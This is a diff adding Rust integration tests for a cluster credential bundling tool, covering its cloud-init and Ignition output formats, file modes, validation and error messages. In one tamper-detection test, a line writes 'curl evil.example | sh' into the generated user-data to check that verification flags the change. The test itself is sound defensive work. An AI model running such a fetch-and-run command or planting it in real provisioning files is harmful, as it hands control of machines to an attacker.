@@ -5,10 +5,12 @@ use std::fs;
 use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 
+use base64ct::Encoding;
 use clusterctl::bundle::archive;
 use clusterctl::bundle::contents::Bundle;
+use serde::Deserialize;
 
-use crate::support::{Lab, good_tool};
+use crate::support::{CLUSTER, Lab, good_tool, tool};
 
 /// The bundle that `bundle HOST` packs as an archive.
 fn packed(lab: &Lab, host: &str) -> Bundle {
@@ -74,4 +76,429 @@ fn a_folders_modes_do_not_depend_on_the_umask_and_a_second_run_replaces_it_whole
     assert_eq!(unfinished, 5, "one folder a host, and nothing else");
     let mode = fs::metadata(lab.path("bundles")).expect("facts").permissions().mode() & 0o777;
     assert_eq!(mode, 0o700);
+}
+
+// ── cloud-init ──
+
+/// The user-data of a host, and where it lies.
+fn user_data(lab: &Lab, host: &str) -> String {
+    let ran = lab.good(&["bundle", host, "--format", "cloud-init"]);
+    assert_eq!(ran.out, format!("DIR/bundles/{host}.cloud-init.yaml\n"));
+    assert!(ran.err.contains("warning: the keys are in it in the clear."), "{ran}");
+    lab.path(&format!("bundles/{host}.cloud-init.yaml")).display().to_string()
+}
+
+/// Runs Python with cloud-init's own modules.
+fn cloud_init(script: &str, args: &[&str]) -> String {
+    good_tool("/usr/bin/python3", &[&["-c", script], args].concat())
+}
+
+#[test]
+fn cloud_init_accepts_the_user_data_of_every_kind_of_host() {
+    let lab = Lab::with(&CLUSTER.replace("nodes:\n", "nodes:\n- {name: master-2, addresses: [10.20.0.12]}\n"));
+    lab.good(&["init-ca", "--plaintext-ca-key"]);
+    lab.good(&["issue-master", "--all"]);
+    lab.good(&["issue-node", "--all"]);
+    for host in ["on", "master-1", "master-2"] {
+        let path = user_data(&lab, host);
+        let said = good_tool("cloud-init", &["schema", "--config-file", &path]);
+        assert!(said.contains("Valid cloud-config"), "{said}");
+        assert_eq!(fs::metadata(&path).expect("facts").permissions().mode() & 0o777, 0o600);
+        let first = fs::read(&path).expect("user-data");
+        user_data(&lab, host);
+        assert_eq!(fs::read(&path).expect("user-data"), first, "the same bytes");
+    }
+    // A schema that accepts everything would prove nothing.
+    let path = user_data(&lab, "on");
+    let wrong = fs::read_to_string(&path).expect("text").replacen("\"0600\"", "384", 1);
+    fs::write(&path, wrong).expect("written");
+    assert!(!tool("cloud-init", &["schema", "--config-file", &path]).status.success());
+}
+
+#[test]
+fn a_nodes_user_data_fits_into_what_ec2_takes() {
+    let lab = Lab::issued();
+    let length = fs::metadata(user_data(&lab, "worker-a1.fra1.example.net")).expect("facts").len();
+    assert!(length <= 16 << 10, "{length}");
+    let ran = lab.good(&["bundle", "master-1", "--format", "cloud-init"]);
+    assert!(
+        ran.err.contains("1 of them: over 16 KiB, which is more than EC2 takes; lay it in a private bucket"),
+        "{ran}"
+    );
+}
+
+/// Lays down the files of user-data under `$2` in place of /run/clusterctl, as cloud-init does, and prints the last command.
+const LAY_DOWN: &str = "
+import logging, sys, yaml
+from cloudinit.config import cc_write_files
+config = yaml.safe_load(open(sys.argv[1]))
+assert config['bootcmd'] == [['cloud-init-per', 'instance', 'clusterctl', 'install', '-d', '-m', '0700', '/run/clusterctl']]
+assert list(config) == ['bootcmd', 'write_files', 'runcmd'], list(config)
+for entry in config['write_files']:
+    assert entry['path'].startswith('/run/clusterctl/') and entry['owner'] == 'root:root', entry['path']
+    entry['path'] = entry['path'].replace('/run/clusterctl', sys.argv[2])
+cc_write_files.write_files('write_files', config['write_files'], 'root:root')
+[command] = config['runcmd']
+assert command[:2] == ['sh', '-c'] and len(command) == 3
+print(command[2].replace('/run/clusterctl', sys.argv[2]), end='')
+";
+
+#[test]
+fn what_cloud_init_lays_down_is_the_bundle_and_installs_itself() {
+    let lab = Lab::issued();
+    let bundle = packed(&lab, "on");
+    let path = user_data(&lab, "on");
+    let staging = lab.path("staging");
+    let script = cloud_init(LAY_DOWN, &[&path, &staging.display().to_string()]);
+    let laid = tree(&staging.join("on"));
+    for file in &bundle.files {
+        assert_eq!(laid[&file.path], (format!("{:o}", file.mode), file.bytes.to_vec()), "{}", file.path);
+    }
+    // systemctl of our own, which writes down what it was told.
+    let bin = lab.path("bin");
+    fs::create_dir(&bin).expect("a folder");
+    fs::write(bin.join("systemctl"), format!("#!/bin/sh\necho \"$*\" >>{}\n", lab.path("told").display()))
+        .expect("written");
+    fs::set_permissions(bin.join("systemctl"), fs::Permissions::from_mode(0o755)).expect("set");
+    let root = lab.path("root");
+    fs::create_dir_all(root.join("etc")).expect("a folder");
+    let run = |name: &str| {
+        fs::write(root.join("etc/hostname"), name).expect("written");
+        std::process::Command::new("sh")
+            .args(["-c", &script])
+            .env("DESTDIR", &root)
+            .env("PATH", format!("{}:{}", bin.display(), std::env::var("PATH").expect("a path")))
+            .output()
+            .expect("sh")
+    };
+    let other = run("another-host\n");
+    assert_eq!(other.status.code(), Some(1), "{}", String::from_utf8_lossy(&other.stderr));
+    assert!(!staging.exists() && !lab.path("told").exists(), "no key stays behind, and nothing is started");
+    assert!(!root.join("var").exists(), "nothing was installed");
+
+    cloud_init(LAY_DOWN, &[&path, &staging.display().to_string()]);
+    let installed = run("on\n");
+    assert!(installed.status.success(), "{}", String::from_utf8_lossy(&installed.stderr));
+    assert!(!staging.exists());
+    assert_eq!(lab.read("told"), "daemon-reload\nenable kubelet\nrestart kubelet\n");
+    assert_eq!(tree(&root)["var/lib/kubelet/pki/kubelet-client.key"].0, "600");
+    assert_eq!(tree(&root)["var/lib/kubelet"].0, "750");
+}
+
+// ── Ignition ──
+
+/// An Ignition config by its specification 3.4.0, kept by hand: every field that clusterctl writes, and no other.
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Ignition {
+    ignition: IgnitionVersion,
+    storage: Storage,
+    systemd: Systemd,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct IgnitionVersion {
+    version: String,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Storage {
+    directories: Vec<Directory>,
+    files: Vec<File>,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Directory {
+    path: String,
+    mode: u32,
+    user: Owner,
+    group: Owner,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Owner {
+    id: u32,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct File {
+    path: String,
+    overwrite: bool,
+    mode: u32,
+    user: Owner,
+    group: Owner,
+    contents: Contents,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Contents {
+    source: String,
+    verification: Verification,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Verification {
+    hash: String,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Systemd {
+    units: Vec<Unit>,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Unit {
+    name: String,
+    enabled: Option<bool>,
+    dropins: Vec<DropIn>,
+}
+
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct DropIn {
+    name: String,
+    contents: String,
+}
+
+#[test]
+fn an_ignition_config_puts_every_file_into_its_place_by_the_specifications_rules() {
+    let lab = Lab::issued();
+    for host in ["on", "master-1"] {
+        let bundle = packed(&lab, host);
+        let ran = lab.good(&["bundle", host, "--format", "ignition"]);
+        assert_eq!(ran.out, format!("DIR/bundles/{host}.ign\n"));
+        let path = lab.path(&format!("bundles/{host}.ign"));
+        assert_eq!(fs::metadata(&path).expect("facts").permissions().mode() & 0o777, 0o600);
+        let config: Ignition = serde_json::from_slice(&fs::read(&path).expect("a config")).expect("a config");
+        assert_eq!(config.ignition.version, "3.4.0");
+
+        // Paths are absolute and each there once, among files, folders and drop-ins.
+        let drop_ins: Vec<(String, &str)> = config
+            .systemd
+            .units
+            .iter()
+            .flat_map(|unit| {
+                let path = |drop_in: &DropIn| format!("/etc/systemd/system/{}.d/{}", unit.name, drop_in.name);
+                unit.dropins.iter().map(move |drop_in| (path(drop_in), drop_in.contents.as_str()))
+            })
+            .collect();
+        let paths = config.storage.files.iter().map(|file| file.path.clone());
+        let paths = paths.chain(config.storage.directories.iter().map(|folder| folder.path.clone()));
+        let mut paths: Vec<String> = paths.chain(drop_ins.iter().map(|(path, _)| path.clone())).collect();
+        assert!(paths.iter().all(|path| path.starts_with('/') && !path.ends_with('/') && !path.contains("..")));
+        let count = paths.len();
+        paths.sort_unstable();
+        paths.dedup();
+        assert_eq!(paths.len(), count);
+
+        let mut placed: BTreeMap<String, (String, Vec<u8>)> = BTreeMap::new();
+        for file in &config.storage.files {
+            assert!(file.overwrite && file.mode <= 0o7777 && (file.user.id, file.group.id) == (0, 0), "{}", file.path);
+            let data = file.contents.source.strip_prefix("data:;base64,").expect("a data URL (RFC 2397)");
+            let bytes = base64ct::Base64::decode_vec(data).expect("base64");
+            let hash = file.contents.verification.hash.strip_prefix("sha256-").expect("a kind of hash");
+            assert_eq!(hash, clusterctl::pki::fingerprint::Fingerprint::of(&bytes).to_string());
+            placed.insert(file.path.trim_start_matches('/').to_owned(), (format!("{:o}", file.mode), bytes));
+        }
+        for (path, contents) in &drop_ins {
+            placed.insert(path.trim_start_matches('/').to_owned(), ("644".into(), contents.as_bytes().to_vec()));
+        }
+        let mut wanted: BTreeMap<String, (String, Vec<u8>)> = bundle
+            .files
+            .iter()
+            .filter(|file| file.path.contains('/'))
+            .map(|file| (file.path.clone(), (format!("{:o}", file.mode), file.bytes.to_vec())))
+            .collect();
+        let record = bundle.file("manifest.json").expect("a manifest").bytes.to_vec();
+        wanted.insert("etc/kubernetes/clusterctl/manifest.json".into(), ("644".into(), record));
+        assert_eq!(placed, wanted);
+
+        for folder in &config.storage.directories {
+            let mode = if folder.path.starts_with("/var/lib/kubelet") { 0o750 } else { 0o755 };
+            assert_eq!((folder.mode, folder.user.id, folder.group.id), (mode, 0, 0), "{}", folder.path);
+            assert!(!["/etc", "/var", "/var/lib"].contains(&folder.path.as_str()));
+        }
+        let enabled: Vec<&str> =
+            config.systemd.units.iter().filter(|u| u.enabled == Some(true)).map(|u| u.name.as_str()).collect();
+        assert_eq!(enabled, if host == "on" { vec!["kubelet.service"] } else { vec![] });
+    }
+}
+
+#[test]
+fn ignitions_own_validator_accepts_the_config() {
+    let lab = Lab::issued();
+    for host in ["on", "master-1"] {
+        lab.good(&["bundle", host, "--format", "ignition"]);
+        // Debian's Ignition knows 3.4 under its name from before it was finished.
+        let config = lab.read(&format!("bundles/{host}.ign"));
+        let of_before = config.replacen("\"3.4.0\"", "\"3.4.0-experimental\"", 1);
+        let validate = |config: &str| {
+            lab.write("config.ign", config);
+            tool("ignition-validate", &[&lab.path("config.ign").display().to_string()])
+        };
+        let said = validate(&of_before);
+        let words = String::from_utf8_lossy(&said.stderr).into_owned() + &String::from_utf8_lossy(&said.stdout);
+        assert!(said.status.success() && words.is_empty(), "{words}");
+        assert!(!validate(&of_before.replacen("\"mode\": 384", "\"mode\": \"0600\"", 1)).status.success());
+        assert!(!validate(&of_before.replacen("sha256-", "sha257-", 1)).status.success());
+    }
+}
+
+// ── whatever the form, it is explained and judged ──
+
+const FORMS: [(&str, &str); 4] =
+    [("tar.gz", "on.tar.gz"), ("dir", "on"), ("cloud-init", "on.cloud-init.yaml"), ("ignition", "on.ign")];
+
+#[test]
+fn show_and_verify_read_every_form() {
+    let lab = Lab::issued();
+    for (form, name) in FORMS {
+        lab.good(&["bundle", "on", "--format", form]);
+        let shown = lab.good(&["show", &format!("bundles/{name}")]).out;
+        assert!(shown.contains("\n  bundle of clusterctl\n") && shown.contains("kubelet:on"), "{form}: {shown}");
+    }
+    let judged = lab.good(&["verify", "--offline", "--output", "json"]).out;
+    let report: serde_json::Value = serde_json::from_str(&judged).expect("JSON");
+    let matches = report["results"].as_array().expect("results").iter().filter(|r| r["id"] == "trust.match");
+    let mut addresses: Vec<&str> = matches.map(|r| r["address"].as_str().expect("an address")).collect();
+    addresses.sort_unstable();
+    let names: Vec<&str> = addresses.iter().filter_map(|path| path.rsplit('/').next()).collect();
+    assert_eq!(names, ["on", "on.cloud-init.yaml", "on.ign", "on.tar.gz"]);
+}
+
+#[test]
+fn what_somebody_changed_in_a_parcel_is_found() {
+    let lab = Lab::issued();
+    for (form, _) in FORMS {
+        lab.good(&["bundle", "on", "--format", form]);
+    }
+    let judged = |hint: &str| {
+        let ran = lab.run(&["verify", "--offline"]);
+        assert_eq!(ran.status, 1, "{ran}");
+        assert!(ran.out.replace("\n            ", " ").contains(hint), "{ran}");
+        ran.out.replace("\n            ", " ")
+    };
+    let change = |name: &str, from: &str, to: &str| {
+        let text = lab.read(name);
+        assert!(text.contains(from), "{name} {from}");
+        lab.write(name, &text.replacen(from, to, 1));
+    };
+    change("bundles/on/etc/kubernetes/kubelet.conf", "on", "no");
+    assert!(judged("clusterctl bundle on --format dir").contains("etc/kubernetes/kubelet.conf is damaged"));
+    lab.good(&["bundle", "on", "--format", "dir"]);
+
+    change("bundles/on.cloud-init.yaml", "systemctl restart kubelet", "curl evil.example | sh");
+    assert!(judged("clusterctl bundle on --format cloud-init").contains("or somebody changed it since"));
+    lab.good(&["bundle", "on", "--format", "cloud-init"]);
+
+    change("bundles/on.ign", "\"mode\": 384", "\"mode\": 420");
+    assert!(judged("clusterctl bundle on --format ignition").contains("has mode 0644, the manifest says 0600"));
+    lab.good(&["bundle", "on", "--format", "ignition"]);
+    change("bundles/on.ign", "\"directories\": [", "\"links\": [],\n    \"directories\": [");
+    assert!(judged("clusterctl bundle on --format ignition").contains("or somebody changed it since"));
+    lab.good(&["bundle", "on", "--format", "ignition"]);
+    lab.good(&["verify", "--offline"]);
+
+    let not_one = lab.run(&["show", "pki"]);
+    assert_eq!(not_one.status, 2, "{not_one}");
+    assert!(not_one.err.contains("there is no manifest.json in it, so it is no bundle of clusterctl"), "{not_one}");
+}
+
+// ── bad input ──
+
+#[test]
+fn a_template_that_is_nobodys_is_refused_with_those_that_there_are() {
+    let lab = Lab::issued();
+    fs::create_dir_all(lab.path("templates/node/etc")).expect("a folder");
+    lab.write("templates/node/etc/motd", "hello\n");
+    let before = lab.snapshot();
+    let ran = lab.run(&["bundle", "--all", "--templates", "templates"]);
+    assert_eq!((ran.status, ran.out.as_str()), (2, ""), "{ran}");
+    assert!(
+        ran.err.starts_with(
+            "error: the templates cannot be used\ncaused by: node/etc/motd overrides nothing; there are templates at \
+             install.sh "
+        ) && ran.err.contains(" node/var/lib/kubelet/config.yaml")
+            && ran.err.ends_with("\nhint: clusterctl bundle --eject-templates DIR writes those that work\n"),
+        "{ran}"
+    );
+    assert_eq!(lab.snapshot(), before, "nothing is packed");
+}
+
+#[test]
+fn a_template_that_fails_is_named_with_its_line_and_the_value() {
+    let lab = Lab::issued();
+    fs::create_dir_all(lab.path("templates/node/etc/kubernetes")).expect("a folder");
+    let before = lab.snapshot();
+    let failing = |text: &str| {
+        lab.write("templates/node/etc/kubernetes/kubelet.conf", text);
+        let ran = lab.run(&["bundle", "on", "--templates", "templates", "--format", "dir"]);
+        assert_eq!((ran.status, ran.out.as_str()), (2, ""), "{ran}");
+        assert!(!lab.path("bundles/on").exists(), "nothing is packed");
+        ran.err
+    };
+    let unfilled = failing("a: 1\nserver: {{ cluster.endpiont }}\n");
+    assert!(
+        unfilled.starts_with("error: the bundle of on cannot be rendered\n")
+            && unfilled.contains(
+                "template node/etc/kubernetes/kubelet.conf, line 2: undefined value: server: {{ cluster.endpiont }}\n"
+            )
+            && unfilled.contains("\nhint: look at the template that is named"),
+        "{unfilled}"
+    );
+    let broken = failing("a: 1\nb: 2\nserver: {{ cluster.endpoint }\n");
+    assert!(broken.contains("template node/etc/kubernetes/kubelet.conf, line 3: syntax error"), "{broken}");
+    fs::remove_dir_all(lab.path("templates")).expect("removed");
+    let folder = |path: &std::path::PathBuf| !path.starts_with(lab.path("bundles"));
+    let after: BTreeMap<_, _> = lab.snapshot().into_iter().filter(|(path, _)| folder(path)).collect();
+    assert_eq!(after, before);
+}
+
+#[test]
+fn a_host_without_credentials_is_told_with_the_command_that_makes_them() {
+    let lab = Lab::with_roots();
+    for format in ["tar.gz", "dir", "cloud-init", "ignition"] {
+        let ran = lab.run(&["bundle", "--all", "--format", format]);
+        assert_eq!((ran.status, ran.out.as_str()), (3, ""), "{ran}");
+        assert!(ran.err.contains("clusterctl issue-master"), "{ran}");
+        assert!(!lab.path("bundles").exists(), "nothing is packed");
+    }
+    lab.good(&["issue-master", "--all"]);
+    let ran = lab.run(&["bundle", "on", "--format", "ignition"]);
+    assert_eq!(ran.status, 3, "{ran}");
+    assert!(ran.err.ends_with("\nhint: issue them with: clusterctl issue-node on\n"), "{ran}");
+}
+
+#[test]
+fn a_form_that_there_is_not_and_one_that_cannot_be_sealed_are_usage_errors() {
+    let lab = Lab::issued();
+    let unknown = lab.run(&["bundle", "on", "--format", "zip"]);
+    assert_eq!(unknown.status, 2, "{unknown}");
+    assert!(unknown.err.contains("[possible values: tar.gz, dir, cloud-init, ignition]"), "{unknown}");
+    let pair = good_tool("age-keygen", &[]);
+    let recipient = pair.lines().find_map(|line| line.strip_prefix("# public key: ")).expect("a recipient");
+    let sealed = lab.run(&["bundle", "on", "--format", "ignition", "--seal-to", recipient]);
+    assert_eq!(sealed.status, 2, "{sealed}");
+    assert!(sealed.err.starts_with("error: --format ignition cannot be sealed\nhint: "), "{sealed}");
+    assert!(!lab.path("bundles").exists(), "nothing is packed");
+}
+
+#[test]
+fn what_stands_where_a_folder_has_to_go_stays() {
+    let lab = Lab::issued();
+    fs::create_dir(lab.path("bundles")).expect("a folder");
+    lab.write("bundles/on", "somebody's");
+    let ran = lab.run(&["bundle", "on", "--format", "dir"]);
+    assert_eq!(ran.status, 3, "{ran}");
+    assert!(ran.err.contains("DIR/bundles/on is in the way") && ran.err.contains("\nhint: move "), "{ran}");
+    assert_eq!(lab.read("bundles/on"), "somebody's");
 }
